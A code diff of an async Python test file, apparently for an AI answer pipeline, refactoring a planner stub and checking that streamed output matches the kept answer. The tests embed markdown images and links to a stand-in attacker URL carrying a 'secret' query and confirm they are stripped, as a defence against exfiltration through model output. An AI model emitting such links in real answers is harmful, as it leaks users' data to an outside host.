@@ -22,6 +22,7 @@ from graph.markdown import inert
 from tests.support import ROOT
 from tools.protocol import Call, Output
 
+PLAN = '{"tasks":[{"image-to-text":{"image":"cat.png"}}]}'
 EVIL = "https://evil.example/?q=secret"
 FORMS = [
     f"![x]({EVIL})",
@@ -157,7 +158,8 @@ async def test_what_a_file_says_is_escaped_where_the_answer_is_composed_by_rule(
 async def test_a_stream_is_the_kept_answer_word_for_word(stubs: Callable[..., StubBackend], picture: str) -> None:
     stubs(good=shows)
     answer = f"A **red** square, see {picture}.\n\n- ![x]({EVIL})\n- fine\n\n[1]: {EVIL}\n\nThat is all.\n\n"
-    register("queue", lambda _: QueueChat(answers=['{"tasks":[{"image-to-text":{"image":"cat.png"}}]}', answer]))
+    model = QueueChat(answers=[PLAN, answer])
+    register("queue", lambda _: model)
     streamed_, kept = await words_of("queue:test", picture)
     assert streamed_ == kept
     assert kept.startswith(f"A **red** square, see {picture}.\n\n- x\n- fine\n\nThat is all.\n\n**How**")
@@ -165,8 +167,8 @@ async def test_a_stream_is_the_kept_answer_word_for_word(stubs: Callable[..., St
 
 async def test_an_answer_that_fails_midway_goes_on_by_rule(stubs: Callable[..., StubBackend], picture: str) -> None:
     stubs(good=shows)
-    plan = '{"tasks":[{"image-to-text":{"image":"cat.png"}}]}'
-    register("queue", lambda _: QueueChat(answers=[plan, "word " * 50_000]))
+    model = QueueChat(answers=[PLAN, "word " * 50_000])
+    register("queue", lambda _: model)
     streamed_, kept = await words_of("queue:test", picture)
     assert streamed_ == kept
     assert "This answer was composed by rule. queue:test wrote more than" in kept
